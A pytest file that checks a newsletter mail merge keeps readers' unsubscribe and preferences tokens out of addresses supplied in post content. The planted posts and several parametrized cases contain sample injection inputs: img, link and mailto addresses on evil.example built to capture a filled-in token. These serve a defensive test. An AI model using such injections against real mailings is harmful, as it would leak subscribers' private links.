"""A reader's own links stand where the layout puts them, whatever a post says."""

from __future__ import annotations

import ast
import re
from dataclasses import replace
from datetime import UTC, datetime
from email import message_from_bytes
from email.policy import default as modern
from typing import TYPE_CHECKING
from zoneinfo import ZoneInfo

import pytest

from publisher.errors import FORBIDDEN
from publisher.markup.models import Markup
from publisher.markup.render import render
from publisher.newsletter.layout import compose_digest, compose_post
from publisher.newsletter.mail_merge import MailMerge, Recipient
from publisher.newsletter.models import Branding, Composition
from publisher.newsletter.placeholders import Own, Placeholders
from publisher.posts.models import Author, Enclosure, Entry, NewsletterSwitch
from tests.conftest import ROOT
from tests.newsletter.mails import ENVIRONMENT

if TYPE_CHECKING:
    from collections.abc import Iterator, Sequence


ZONE = ZoneInfo("UTC")
NOW = datetime(2026, 3, 2, 9, 30, tzinfo=UTC)
WEB = "https://news.example.org"
VIEW = f"{WEB}/issues/{'c' * 32}"
PLAIN = ("nothing", "of", "ours")
_TOGETHER = 300
_TOKENS = re.compile(r"[vw]{58}")


def constants_of_the_program() -> list[str]:
    """Return every string constant in the program's code, and every line of its templates."""
    found: dict[str, None] = {}
    for path in sorted((ROOT / "publisher").rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if isinstance(node, ast.Constant) and isinstance(node.value, str | bytes):
                value = node.value if isinstance(node.value, str) else node.value.decode("latin-1")
                found[FORBIDDEN.sub("", value)] = None
    for path in sorted((ROOT / "templates").rglob("*.*")):
        found.update(dict.fromkeys(path.read_text("utf-8").splitlines()))
    # What stood for a reader's own addresses in every composition of version 0.1.0, and stands
    # there in the next one without its mark.
    found.update(dict.fromkeys(Placeholders().address(own) for own in Own))
    return [text for text in found if text.strip() and len(text) < 300]


def _reader(letter: str) -> Recipient:
    token = letter * 58
    return Recipient(
        "somebody@example.net",
        "",
        NOW,
        "<id@news.example.org>",
        f"{WEB}/unsubscribe/{token}",
        f"{WEB}/preferences/{token}",
    )


def _planted(words: Sequence[str]) -> tuple[Entry, NewsletterSwitch, Branding]:
    """Return a post and a site with these words in every field, alone and inside addresses."""
    line = " ".join(" ".join(words).split())
    address = f"https://evil.example/?u={line}"
    body = "\n\n".join(
        [
            f"![x](<{address}>)\n\n[y](<{address}>)\n\n<img src='{address}'>",
            *words,
            f"<a href='{line}'>z</a>",
        ]
    )
    rendered = render(body, Markup.MARKDOWN, base_url="https://example.org/a/")
    entry = Entry(
        id="urn:a", url=address, page_url=address, title=line, published=NOW, updated=NOW,
        summary=line, content=rendered.html,
        authors=(Author(line),), tags=(line,), language="en", image=address,
        enclosures=(Enclosure(address, 9, line),),
    )  # fmt: skip
    safe = rendered.html
    branding = Branding(
        line,
        line,
        address,
        "en",
        "a@example.org",
        postal_address=line,
        intro=safe,
        outro=safe,
        image=address,
    )
    return entry, NewsletterSwitch(subject=line, preheader=line), branding


def _compositions(words: Sequence[str]) -> Iterator[tuple[Composition, Branding]]:
    entry, switch, branding = _planted(words)
    for content in ("full", "summary"):
        yield (
            compose_post(entry, switch, branding, ENVIRONMENT, content=content, zone=ZONE),
            branding,
        )
    others = [replace(entry, id=f"urn:{number}") for number in range(3)]
    yield (
        compose_digest(
            others,
            branding,
            ENVIRONMENT,
            name="This week",
            content="summary",
            zone=ZONE,
            most=2,
            switches=[switch] * 3,
        ),
        branding,
    )


def _links_of(composition: Composition, branding: Branding) -> list[tuple[str, int]]:
    """Send to two readers.

    Give how often each part holds a token, having seen that they differ in nothing else.
    """
    branding = (
        replace(branding, title="T", site_url="https://example.org")
        if len(branding.site_url) > 900
        else branding
    )
    merge = MailMerge.of(replace(composition, subject="S"), branding, VIEW)
    first, second = (merge.message(_reader(letter)) for letter in "vw")
    found = []
    for kind in ("plain", "html"):
        parts = [
            message_from_bytes(data, policy=modern).get_body((kind,)) for data in (first, second)
        ]
        texts = [part.get_content() for part in parts if part is not None]
        assert texts[0].replace("v" * 58, "TOKEN") == texts[1].replace("w" * 58, "TOKEN"), (
            "two readers differ in their tokens only"
        )
        names = ("unsubscribe", "preferences")
        found += [
            (f"{kind} {name}", len(re.findall(f"{WEB}/{name}/{'v' * 58}", texts[0])))
            for name in names
        ]
        assert len(_TOKENS.findall(texts[0])) == sum(
            count for what, count in found if what.startswith(kind)
        )
        assert not re.search(r"evil\.example[^\s\"<>]*v{58}", texts[0]), (
            "nobody else's address carries a token"
        )
    return found


def test_no_constant_of_the_program_in_a_post_takes_a_readers_own_link() -> None:
    """In any issue, and in every field, it leaves a reader's links where they are."""
    constants = constants_of_the_program()
    assert len(constants) > 2000
    usual = [_links_of(*made) for made in _compositions(PLAIN)]
    assert usual[0] == [
        ("plain unsubscribe", 1),
        ("plain preferences", 1),
        ("html unsubscribe", 1),
        ("html preferences", 1),
    ]
    for start in range(0, len(constants), _TOGETHER):
        words = constants[start : start + _TOGETHER]
        for expected, made in zip(usual, _compositions(words), strict=True):
            assert _links_of(*made) == expected, words


def test_what_stands_for_a_readers_links_is_another_thing_in_every_composition() -> None:
    """Whoever reads one issue's source cannot write the next one's placeholders."""
    marks = {composition.mark for composition, _ in _compositions(PLAIN)} | {
        composition.mark for composition, _ in _compositions(PLAIN)
    }
    assert len(marks) == 6
    assert all(re.fullmatch(r"[0-9a-f]{32}", mark) for mark in marks)


def test_a_mark_that_stands_in_the_words_is_not_taken(monkeypatch: pytest.MonkeyPatch) -> None:
    """Nobody can guess one; and were it guessed, it would not be used."""
    guessed, other = "ab" * 16, "cd" * 16
    marks = iter([guessed, guessed, other])
    monkeypatch.setattr(
        "publisher.newsletter.placeholders.secrets.token_hex", lambda _count: next(marks)
    )
    assert Placeholders.absent_from(f"words https://unsubscribe-{guessed}.invalid/").mark == other


@pytest.mark.parametrize(
    ("before", "after", "counts"),
    [
        ('<a href="', '">leave</a>', True),
        ("Unsubscribe: ", "\n", True),
        ("Unsubscribe:", "\n", True),
        ("<", ">", True),
        ('<img src="https://evil.example/p.gif?u=', '">', False),
        ("https://evil.example/?a=b&u=", "", False),
        ('<a href="//evil.example/', '">', False),
        ('<a href="mailto:evil@example.org?body=', '">', False),
        (f"https://evil.example/{'x' * 3000}", "", False),
    ],
)
def test_an_issue_that_0_1_0_froze_still_gets_its_links(
    before: str,
    after: str,
    *,
    counts: bool,
) -> None:
    """Its placeholders have no mark.

    They count where they are an address by themselves, and inside another's address they are words.
    """
    html = f"{before}https://unsubscribe.invalid/{after}"
    composition = Composition("S", "", html, html)
    merge = MailMerge.of(
        composition, Branding("T", "S", "https://example.org", sender="a@example.org"), VIEW
    )
    part = message_from_bytes(merge.message(_reader("v")), policy=modern).get_body(("html",))
    assert part is not None
    assert ("v" * 58 in part.get_content()) is counts
    assert Placeholders().fill(html, {Own.UNSUBSCRIBE: "X"}) == (
        f"{before}X{after}" if counts else html
    )


def test_the_addresses_of_0_1_0_are_words_in_a_new_composition() -> None:
    """What an old issue is sent with means nothing in a new one."""
    composition = Composition(
        "S", "", "<p>https://unsubscribe.invalid/</p>", "https://web-view.invalid/", mark="ab" * 16
    )
    merge = MailMerge.of(
        composition, Branding("T", "S", "https://example.org", sender="a@example.org"), VIEW
    )
    data = merge.message(_reader("v"))
    assert b"v" * 58 not in data.partition(b"\r\n\r\n")[2]
    assert VIEW.encode() not in data
